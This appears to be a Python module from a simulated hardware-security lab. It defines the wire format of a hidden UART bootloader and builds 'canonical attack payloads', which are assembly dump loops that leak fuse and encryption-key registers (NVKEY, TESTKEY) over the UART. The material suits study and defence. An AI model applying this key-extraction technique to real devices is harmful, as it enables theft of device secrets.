"""Wire format of the hidden UART bootloader, plus the canonical attack payloads.

A payload on the wire is::

    entry_addr | code_length | id0 | id1 | id2 | id3 | code ... | checksum

All header fields and the trailing checksum are 32-bit little-endian.  The
checksum is the one's complement of the 32-bit wrapping sum of every byte
before it.  The four id fields are carried but never interpreted.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from . import machine as mm
from .isa import assemble

HEADER = struct.Struct("<6I")
CHECKSUM = struct.Struct("<I")
MIN_SIZE = HEADER.size + CHECKSUM.size

# error codes carried by PayloadError
TRUNCATED = "TRUNCATED"
CHECKSUM_MISMATCH = "CHECKSUM_MISMATCH"
MALFORMED_HEADER = "MALFORMED_HEADER"
LENGTH_MISMATCH = "LENGTH_MISMATCH"


class PayloadError(ValueError):
    def __init__(self, code: str, msg: str = ""):
        super().__init__(f"{code}: {msg}" if msg else code)
        self.code = code


@dataclass(frozen=True)
class UartHeader:
    entry_addr: int
    code_length: int
    ids: tuple[int, int, int, int] = (0, 0, 0, 0)

    def pack(self) -> bytes:
        return HEADER.pack(self.entry_addr, self.code_length, *self.ids)


@dataclass(frozen=True)
class UartPayload:
    header: UartHeader
    code: bytes
    checksum: int

    def to_bytes(self) -> bytes:
        return self.header.pack() + self.code + CHECKSUM.pack(self.checksum)


def checksum(data: bytes) -> int:
    return ~sum(data) & 0xFFFF_FFFF


def encode(header: UartHeader, code: bytes) -> bytes:
    if header.code_length != len(code):
        raise PayloadError(LENGTH_MISMATCH, f"header says {header.code_length} bytes, code has {len(code)}")
    body = header.pack() + bytes(code)
    return body + CHECKSUM.pack(checksum(body))


def make_payload(entry_addr: int, code: bytes, ids=(0, 0, 0, 0)) -> UartPayload:
    header = UartHeader(entry_addr, len(code), tuple(ids))
    return decode(encode(header, code))


def decode(wire: bytes) -> UartPayload:
    wire = bytes(wire)
    if len(wire) < MIN_SIZE:
        raise PayloadError(TRUNCATED, f"{len(wire)} bytes, need at least {MIN_SIZE}")
    body, (sent,) = wire[:-4], CHECKSUM.unpack(wire[-4:])
    if checksum(body) != sent:
        raise PayloadError(CHECKSUM_MISMATCH, f"got 0x{sent:08x}, computed 0x{checksum(body):08x}")
    entry, length, *ids = HEADER.unpack_from(body)
    code = body[HEADER.size:]
    if length != len(code):
        raise PayloadError(MALFORMED_HEADER, f"code_length {length} but {len(code)} code bytes")
    return UartPayload(UartHeader(entry, length, tuple(ids)), code, sent)


# -- canonical payloads ---------------------------------------------------

# (start, end) windows a dump loop may read from
READABLE_REGIONS = (
    (mm.IROM_BASE, mm.IROM_END),
    (mm.RAM_BASE, mm.RAM_END),
    (mm.FUSE_BASE, mm.FUSE_BASE + mm.FUSE_BLOCK_SIZE),
    (mm.FEK_NVKEY_ADDR, mm.FEK_NVKEY_ADDR + mm.FEK_BLOCK_SIZE),
    (mm.SB_CFG_ADDR, mm.SB_CFG_ADDR + 8),
)

DUMP_ENTRY = mm.RAM_BASE

_DUMP_LOOP = """
    mov     r1, #{start}
    mov     r2, #{end}
    mov     r3, #{uart}
dump_loop:
    cmp     r1, r2
    beq     dump_done
    ldrb    r0, [r1, #0]
    strb    r0, [r3, #0]
    add     r1, r1, #1
    b       dump_loop
dump_done:
"""


def _check_range(start: int, count: int) -> None:
    if count < 0:
        raise ValueError("byte_count must be >= 0")
    if count == 0:
        return
    if not any(lo <= start and start + count <= hi for lo, hi in READABLE_REGIONS):
        raise ValueError(f"range 0x{start:08x}+0x{count:x} is outside the memory map")


def dump_code(ranges, uart_mmio_addr: int = mm.UART_TX_ADDR, entry: int = DUMP_ENTRY) -> bytes:
    """Code that emits every byte of each ``(start, count)`` range on UART, then halts."""
    src = []
    for i, (start, count) in enumerate(ranges):
        _check_range(start, count)
        loop = _DUMP_LOOP.format(start=start, end=start + count, uart=uart_mmio_addr)
        src.append(loop.replace("dump_loop", f"dump_loop{i}").replace("dump_done", f"dump_done{i}"))
    src.append("    halt\n")
    return assemble("".join(src), entry, name="dump").code


def build_dump_payload(start_addr: int, byte_count: int,
                       uart_mmio_addr: int = mm.UART_TX_ADDR) -> UartPayload:
    return make_payload(DUMP_ENTRY, dump_code([(start_addr, byte_count)], uart_mmio_addr))


def build_fek_dump_payload(uart_mmio_addr: int = mm.UART_TX_ADDR) -> UartPayload:
    """Dumps the NVKEY and TESTKEY registers (32 bytes)."""
    return build_dump_payload(mm.FEK_NVKEY_ADDR, mm.FEK_BLOCK_SIZE, uart_mmio_addr)


def build_fuse_dump_payload(uart_mmio_addr: int = mm.UART_TX_ADDR) -> UartPayload:
    return build_dump_payload(mm.FUSE_BASE, mm.FUSE_BLOCK_SIZE, uart_mmio_addr)
